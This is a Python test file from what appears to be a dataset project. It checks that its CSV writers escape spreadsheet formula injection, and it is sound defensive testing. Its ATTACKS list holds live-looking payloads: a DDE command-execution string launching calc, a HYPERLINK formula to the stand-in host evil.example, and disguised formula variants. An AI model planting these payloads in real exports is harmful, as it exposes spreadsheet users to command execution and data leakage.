"""Every CSV the project writes is safe to open in a spreadsheet (issue 24, OWASP CSV injection):
a cell starting with = + - @ | %, tab, CR or LF (also behind leading blanks or in full-width form)
is written with a leading ``'``, whatever wrote it; numbers and the release stay byte-identical."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from defusedcsv import csv as defused_csv

from gavil.io import csv_text, csv_writer, spreadsheet_safe, write_csv
from stages.export import release_cell, to_release_csv, to_split_csv
from tests.helpers import RELEASE

ATTACKS = [
    "=1+2",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x","click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "%0A=1",
    "|calc",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "\u200b=1+2",
    "\u00a0@SUM(1)",
    "＝1+2",  # full-width equals sign
    "﹢1",  # small plus sign
]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _neutral(cell: str) -> bool:
    return cell.startswith("'")


def _bench(cue: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "candidates": [["rocket", "cat", "moon", "coffee", "brick"]],
            "cue": [cue],
            "associations": [["rocket", "moon"]],
            "score_fool_the_ai": [50],
            "num_associations": [2],
            "num_candidates": [5],
            "solvers_jaccard_mean": [-0.5],
            "solvers_jaccard_std": [0.25],
            "ID": [0],
        }
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_benchmark_csv_bytes_hold_no_live_formula(attack):
    text = to_release_csv(_bench(attack))
    cue = _cells(text)[10]
    assert cue == "'" + attack.replace("\r", "\n")  # LF rows: a CR in a cell would split the row
    assert ",-0.5," in text  # a number stays a number


@pytest.mark.parametrize("attack", ATTACKS)
def test_split_files_hold_no_live_formula(attack):
    row = [release_cell(v) for v in _bench(attack).iloc[0].tolist()]
    text = to_split_csv(list(_bench(attack).columns), [row])
    assert _cells(text)[10] == "'" + attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_writer_neutralises_every_text_cell(tmp_path, attack):
    df = pd.DataFrame({"text": [attack], "obj": [[attack]], attack: [1.5]})
    write_csv(df, tmp_path / "x.csv")
    cells = _cells((tmp_path / "x.csv").read_text(encoding="utf-8"))
    lf = "'" + attack.replace("\r", "\n")
    assert cells[:3] == ["text", "obj", lf] and cells[3] == lf and cells[5] == "1.5"
    assert _cells(csv_text(df)) == cells
    buf = io.StringIO()
    csv_writer(buf).writerow([attack, 7, None])
    assert _cells(buf.getvalue()) == ["'" + attack, "7", ""]


@pytest.mark.parametrize("cell", ["dog", "-0.5", "1,5", "0.87", '["a"]', "ice cream", "", "'=quoted"])
def test_harmless_cells_are_unchanged(cell):
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("cell", ATTACKS + ["=", "-", "@", "%", "|", "+1", "-1e-05", "=dog", "dog"])
def test_our_rule_covers_defusedcsv(cell):
    # what we write, defusedcsv's writer leaves alone: our rule is at least as strict as its rule
    ours = spreadsheet_safe(cell)
    buf = io.StringIO()
    defused_csv.writer(buf).writerow([ours])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [ours]


def test_no_released_cell_triggers_the_rule():
    for f in ("game_5_6.csv", "game_10_12.csv", "swow.csv", "winogavil_dataset.csv"):
        with open(RELEASE / f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                assert all(spreadsheet_safe(c) == c for c in row), (f, row)


@pytest.mark.parametrize("name", ["game_5_6.csv", "game_10_12.csv", "swow.csv"])
def test_release_split_file_round_trips_byte_for_byte(name):
    """Cells and line ends as released, down to the last byte (no line end after the last row)."""
    raw = (RELEASE / name).read_bytes()
    with open(RELEASE / name, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert to_split_csv(rows[0], rows[1:]).encode("utf-8") == raw
    assert json.loads(rows[1][0]) or json.loads(rows[1][2])  # JSON list cells are never touched


def test_a_carriage_return_inside_a_cell_never_splits_a_row(tmp_path):
    df = pd.DataFrame({"a": ["ok\r=1+2", "x"], "b": [1, 2]})
    write_csv(df, tmp_path / "x.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "x.csv").read_text(encoding="utf-8"), newline="")))
    assert rows == [["a", "b"], ["ok\n=1+2", "1"], ["x", "2"]]
